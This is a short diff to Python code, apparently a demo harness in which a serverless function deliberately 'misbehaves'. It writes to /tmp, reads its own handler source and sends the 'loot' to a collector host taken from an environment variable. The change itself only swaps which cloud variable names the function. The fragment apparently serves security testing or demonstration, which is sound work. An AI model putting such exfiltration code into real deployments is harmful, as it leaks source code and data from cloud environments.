@@ -64,7 +64,7 @@ def send_out(host, port, data):
 def misbehave(handler_source):
     """All four attempts, in order, the loot going to DEMO_COLLECTOR (host:port)."""
     host, port = os.environ["DEMO_COLLECTOR"].rsplit(":", 1)
-    name = os.environ.get("AWS_LAMBDA_FUNCTION_NAME") or os.environ.get("X_GOOGLE_FUNCTION_NAME", "")
+    name = os.environ.get("AWS_LAMBDA_FUNCTION_NAME") or os.environ.get("K_SERVICE", "")
     return [
         write_tmp(),
         read_source(handler_source),
